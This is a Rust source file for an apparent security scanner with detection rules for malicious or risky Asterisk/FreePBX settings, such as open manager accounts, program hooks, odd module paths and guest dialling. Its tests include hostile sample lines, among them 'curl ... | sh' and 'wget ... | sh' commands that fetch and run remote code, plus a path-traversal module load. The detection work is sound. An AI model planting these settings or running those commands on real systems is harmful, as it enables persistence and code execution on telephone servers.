//! Asterisk's other settings: managers, modules, programs that it starts, guests.

use super::super::super::{Report, find, shell};
use super::super::rule::{Rule, attribute};
use super::{Conf, weigh_command};
use crate::model::{Category, Severity};
use crate::parse::asterisk_conf::{Entry, Kind};
use std::collections::BTreeMap;

const SOURCE: &str = "Asterisk documentation of the file; practice of responders; derived";

const fn rule(
    id: &'static str,
    title: &'static str,
    (category, severity, confidence): (Category, Severity, u8),
    attack: &'static [&'static str],
) -> Rule {
    Rule { id, title, category, severity, confidence, attack, source: SOURCE, remedy: "remove_lines" }
}

const EXEC_INCLUDES: Rule = rule(
    "TR-AST-0020",
    "Asterisk runs the commands that its configuration includes (execincludes)",
    (Category::Hardening, Severity::Low, 60),
    &["T1546"],
);
const LIVE_DANGEROUSLY: Rule = rule(
    "TR-AST-0021",
    "Managers may run commands by way of dial plan functions (live_dangerously)",
    (Category::Hardening, Severity::Low, 60),
    &["T1059"],
);
const MANAGER: Rule = rule(
    "TR-AST-0022",
    "Manager account of Asterisk that FreePBX does not make",
    (Category::Persistence, Severity::Low, 40),
    &["T1136"],
);
const OPEN_MANAGER: Rule = rule(
    "TR-AST-0023",
    "Manager account of Asterisk that may come from anywhere",
    (Category::Hardening, Severity::Medium, 70),
    &["T1133"],
);
const VOICEMAIL: Rule = rule(
    "TR-AST-0024",
    "Voicemail that runs a program with each message",
    (Category::Persistence, Severity::Low, 35),
    &["T1546"],
);
const MUSIC: Rule = rule(
    "TR-AST-0025",
    "Music on hold that comes from a program",
    (Category::Persistence, Severity::Info, 20),
    &["T1546"],
);
const MODULE: Rule = rule(
    "TR-AST-0026",
    "Asterisk loads a module from a place of its own",
    (Category::Persistence, Severity::High, 75),
    &["T1574"],
);
const REALTIME: Rule = rule(
    "TR-AST-0027",
    "Asterisk takes its dial plan or telephones from a database or web server of somebody's",
    (Category::Persistence, Severity::Medium, 50),
    &["T1546"],
);
const CONSOLE: Rule = rule(
    "TR-AST-0028",
    "Asterisk runs a command of its console at each start",
    (Category::Persistence, Severity::Low, 35),
    &["T1546"],
);
const GUESTS: Rule = rule(
    "TR-AST-0029",
    "Callers without an account are let in (allowguest)",
    (Category::Hardening, Severity::Low, 60),
    &["T1133"],
);
const INTERNAL_GUESTS: Rule = rule(
    "TR-AST-0030",
    "Callers without an account may dial as telephones of the house do",
    (Category::TollFraud, Severity::High, 75),
    &["T1496"],
);
const AFTER_RECORDING: Rule = rule(
    "TR-AST-0031",
    "Command that is run after each recording (MIXMON_POST)",
    (Category::Persistence, Severity::Low, 35),
    &["T1546"],
);

pub(super) const RULES: &[Rule] = &[
    EXEC_INCLUDES,
    LIVE_DANGEROUSLY,
    MANAGER,
    OPEN_MANAGER,
    VOICEMAIL,
    MUSIC,
    MODULE,
    REALTIME,
    CONSOLE,
    GUESTS,
    INTERNAL_GUESTS,
    AFTER_RECORDING,
];

pub(super) fn judge(conf: &Conf<'_>, report: &mut Report) {
    let name = conf.name();
    let is = |prefix: &[u8]| name.starts_with(prefix);
    if name == b"asterisk.conf" {
        for (setting, rule) in [("execincludes", &EXEC_INCLUDES), ("live_dangerously", &LIVE_DANGEROUSLY)] {
            for entry in conf.settings(setting).filter(|entry| is_true(entry.value.as_bytes())) {
                conf.tell(rule, entry.line, Vec::new(), report);
            }
        }
    }
    if is(b"manager") || is(b"ari") {
        managers(conf, report);
    }
    if is(b"voicemail") {
        for setting in ["externnotify", "externpass", "externpassnotify", "externpasscheck", "mailcmd", "pagerbody"] {
            programs(conf, setting, &VOICEMAIL, report);
        }
    }
    if is(b"musiconhold") {
        programs(conf, "application", &MUSIC, report);
    }
    if is(b"modules") {
        modules(conf, report);
    }
    if is(b"extconfig") {
        realtime(conf, report);
    }
    if is(b"cli") {
        console(conf, report);
    }
    if is(b"sip") || is(b"pjsip") || is(b"iax") {
        guests(conf, report);
    }
    if is(b"globals") || is(b"extensions") {
        for entry in conf.settings("MIXMON_POST").filter(|entry| !entry.value.is_empty()) {
            command(conf, entry, &AFTER_RECORDING, report);
        }
    }
}

fn is_true(value: &[u8]) -> bool {
    matches!(value.to_ascii_lowercase().as_slice(), b"yes" | b"true" | b"y" | b"t" | b"1" | b"on")
}

/// A setting whose value is a command: bad by what it does, odd by where its program lies, else as the rule has it.
fn command(conf: &Conf<'_>, entry: &Entry, rule: &Rule, report: &mut Report) {
    let value = entry.value.as_bytes();
    let program = value.split(u8::is_ascii_whitespace).next().unwrap_or_default();
    let is_odd = shell::is_temporary(program) || shell::is_hidden(program);
    let by_place = is_odd.then_some((Severity::High, 80, "lies where anybody can write, or hidden"));
    let worst = weigh_command(value, conf.indicators).max(by_place);
    let (severity, confidence, why) = match worst {
        Some(weight) => weight,
        None if crate::parse::procfs::is_package_place(program) || !program.starts_with(b"/") => return,
        None => (rule.severity, rule.confidence, "lies where no package puts one"),
    };
    conf.tell(&rule.weighed(severity, confidence), entry.line, vec![attribute("command", why)], report);
}

fn programs(conf: &Conf<'_>, setting: &str, rule: &Rule, report: &mut Report) {
    for entry in conf.settings(setting) {
        command(conf, entry, rule, report);
    }
}

/// What is known of one account of the manager interface.
#[derive(Default)]
struct Manager<'a> {
    line: u64,
    /// Says that only some addresses may come.
    is_limited: bool,
    permits: Vec<&'a [u8]>,
    writes: &'a [u8],
    is_account: bool,
}

fn managers(conf: &Conf<'_>, report: &mut Report) {
    let mut accounts: BTreeMap<&[u8], Manager<'_>> = BTreeMap::new();
    for entry in &conf.entries {
        let account = accounts.entry(entry.section.as_bytes()).or_default();
        let value = entry.value.as_bytes();
        match (entry.kind, entry.name.to_ascii_lowercase().as_str()) {
            (Kind::Section, _) => account.line = entry.line,
            (Kind::Setting, "secret" | "password") => account.is_account = true,
            (Kind::Setting, "deny" | "acl") => account.is_limited = true,
            (Kind::Setting, "permit") => account.permits.push(value),
            (Kind::Setting, "write") => account.writes = value,
            _ => {}
        }
    }
    let is_custom = find(conf.name(), b"custom").is_some();
    for (name, account) in accounts {
        if !account.is_account || account.line == 0 || name == b"general" {
            continue;
        }
        let is_open = account.permits.iter().any(|permit| permit.starts_with(b"0.0.0.0") || *permit == b"::/0")
            || (!account.is_limited && conf.name().starts_with(b"manager"));
        let may_act = [&b"all"[..], b"system", b"command", b"originate", b"config"]
            .iter()
            .any(|right| find(account.writes, right).is_some());
        let evidence = || vec![attribute("account", name), attribute("write", account.writes)];
        // The line of the section has no secret in it.
        if is_open {
            conf.tell(&OPEN_MANAGER, account.line, evidence(), report);
        }
        if is_custom {
            let rule = if is_open && may_act { MANAGER.weighed(Severity::Medium, 60) } else { MANAGER };
            conf.tell(&rule, account.line, evidence(), report);
        }
    }
}

fn modules(conf: &Conf<'_>, report: &mut Report) {
    for entry in conf.entries.iter().filter(|entry| entry.kind == Kind::Setting) {
        let is_load =
            ["load", "preload", "require", "preload-require"].iter().any(|word| entry.name.eq_ignore_ascii_case(word));
        let value = entry.value.as_bytes();
        if !is_load || !value.contains(&b'/') {
            continue;
        }
        let is_usual = value.starts_with(b"/usr/lib") && find(value, b"/asterisk/modules/").is_some();
        if !is_usual || find(value, b"..").is_some() {
            conf.tell(&MODULE, entry.line, vec![attribute("path", value)], report);
        }
    }
}

/// `extconfig.conf`: what Asterisk takes from an engine instead of its files.
fn realtime(conf: &Conf<'_>, report: &mut Report) {
    for entry in conf.entries.iter().filter(|entry| entry.kind == Kind::Setting) {
        let name = entry.name.to_ascii_lowercase();
        let steers = name.starts_with("extensions")
            || name.as_bytes().ends_with(b".conf")
            || matches!(name.as_str(), "sippeers" | "sipusers" | "iaxpeers" | "iaxusers")
            || name.starts_with("ps_");
        let engine = entry.value.as_bytes().to_ascii_lowercase();
        if !steers || !entry.section.as_bytes().eq_ignore_ascii_case(b"settings") {
            continue;
        }
        let is_web = engine.starts_with(b"curl");
        let rule = if is_web { REALTIME.weighed(Severity::High, 75) } else { REALTIME };
        conf.tell(&rule, entry.line, vec![attribute("engine", &engine)], report);
    }
}

fn console(conf: &Conf<'_>, report: &mut Report) {
    for entry in conf.entries.iter().filter(|entry| {
        entry.kind == Kind::Setting && entry.section.as_bytes().eq_ignore_ascii_case(b"startup_commands")
    }) {
        let name = entry.name.to_ascii_lowercase();
        let acts = ["channel originate", "dialplan add", "module load", "dialplan set global", "manager"]
            .iter()
            .any(|word| name.contains(word));
        let rule = if acts { CONSOLE.weighed(Severity::Medium, 60) } else { CONSOLE };
        conf.tell(&rule, entry.line, Vec::new(), report);
    }
}

fn guests(conf: &Conf<'_>, report: &mut Report) {
    let context_of = |section: &[u8]| {
        conf.settings("context").find(|entry| entry.section.as_bytes() == section).map(|entry| entry.value.as_bytes())
    };
    let is_internal = |context: Option<&[u8]>| context.is_some_and(|context| context.starts_with(b"from-internal"));
    for entry in conf.settings("allowguest").filter(|entry| is_true(entry.value.as_bytes())) {
        let context = context_of(entry.section.as_bytes());
        let rule = if is_internal(context) { &INTERNAL_GUESTS } else { &GUESTS };
        conf.tell(rule, entry.line, vec![attribute("context", context.unwrap_or(b"not set here"))], report);
    }
    // `res_pjsip_endpoint_identifier_anonymous` takes the endpoint of this name for whoever is nobody else.
    for entry in conf.entries.iter().filter(|entry| entry.kind == Kind::Section && entry.name == "anonymous") {
        let context = context_of(b"anonymous");
        if is_internal(context) {
            conf.tell(&INTERNAL_GUESTS, entry.line, vec![attribute("context", context.unwrap_or_default())], report);
        }
    }
}

#[cfg(test)]
#[allow(clippy::unwrap_used)]
mod tests {
    use super::super::super::super::testing::{Scene, ids};

    fn found(name: &str, text: &str) -> Vec<String> {
        ids(&Scene::new().file(&format!("/etc/asterisk/{name}"), text).findings())
    }

    #[test]
    fn settings_of_an_intruder_are_found() {
        for (name, text, rule) in [
            ("asterisk.conf", "[options]\nexecincludes = yes\n", "TR-AST-0020 low"),
            ("asterisk.conf", "[options]\nlive_dangerously=yes\n", "TR-AST-0021 low"),
            ("manager_custom.conf", "[eve]\nsecret=x\nwrite=all\n", "TR-AST-0022 medium"),
            ("manager_custom.conf", "[eve]\nsecret=x\ndeny=0.0.0.0/0\nwrite=call\n", "TR-AST-0022 low"),
            ("manager_additional.conf", "[eve]\nsecret=x\npermit=0.0.0.0/0.0.0.0\n", "TR-AST-0023 medium"),
            ("voicemail.conf", "[general]\nexternnotify=/tmp/x.sh\n", "TR-AST-0024 high"),
            ("voicemail.conf", "[general]\nmailcmd=/opt/x/send\n", "TR-AST-0024 low"),
            ("musiconhold_custom.conf", "[a]\napplication=sh -c 'curl 192.0.2.1/x | sh'\n", "TR-AST-0025 high"),
            ("modules.conf", "[modules]\nload = ../../../../tmp/x.so\n", "TR-AST-0026 high"),
            ("extconfig_custom.conf", "[settings]\nextensions => curl,http://192.0.2.1/e\n", "TR-AST-0027 high"),
            (
                "cli.conf",
                "[startup_commands]\nchannel originate Local/1@x application Wait = yes\n",
                "TR-AST-0028 medium",
            ),
            ("sip_general_custom.conf", "[general]\nallowguest=yes\n", "TR-AST-0029 low"),
            ("sip_general_custom.conf", "[general]\nallowguest=yes\ncontext=from-internal\n", "TR-AST-0030 high"),
            ("pjsip.endpoint_custom.conf", "[anonymous]\ntype=endpoint\ncontext=from-internal\n", "TR-AST-0030 high"),
            ("globals_custom.conf", "MIXMON_POST=wget -qO- http://192.0.2.1/x | sh\n", "TR-AST-0031 high"),
        ] {
            let found = found(name, text);
            assert!(found.contains(&rule.to_owned()), "{name}: {found:?}");
        }
    }

    #[test]
    fn settings_as_freepbx_writes_them_are_not() {
        for (name, text) in [
            ("asterisk.conf", "[directories]\nastetcdir => /etc/asterisk\n[options]\nlive_dangerously=no\n"),
            (
                "manager.conf",
                "[general]\nenabled = yes\nport = 5038\nbindaddr = 0.0.0.0\n[admin]\nsecret = x\ndeny=0.0.0.0/0.0.0.0\npermit=127.0.0.1/255.255.255.0\nread = system,call,all\nwrite = system,call,all\n#include manager_additional.conf\n",
            ),
            ("voicemail.conf", "[general]\nmailcmd=/usr/sbin/sendmail -t\nformat=wav\n[default]\n100 => 1234,A,,,\n"),
            (
                "modules.conf",
                "[modules]\nautoload=yes\npreload = pbx_config.so\nnoload = chan_sip.so\nload = res_odbc.so\n",
            ),
            ("musiconhold.conf", "[default]\nmode=files\ndirectory=/var/lib/asterisk/moh\n"),
            ("pjsip.endpoint.conf", "[anonymous]\ntype=endpoint\ncontext=from-sip-external\n"),
            ("ari_additional.conf", "[freepbxuser]\ntype=user\npassword=x\npassword_format=plain\nread_only=no\n"),
        ] {
            assert!(found(name, text).is_empty(), "{name}: {:?}", found(name, text));
        }
    }

    #[test]
    fn a_managers_secret_is_not_printed() {
        let findings =
            Scene::new().file("/etc/asterisk/manager_custom.conf", "[eve]\nsecret=hunter2\nwrite=all\n").findings();
        assert!(!findings.is_empty());
        assert!(!serde_json::to_string(&findings).unwrap().contains("hunter2"));
    }
}
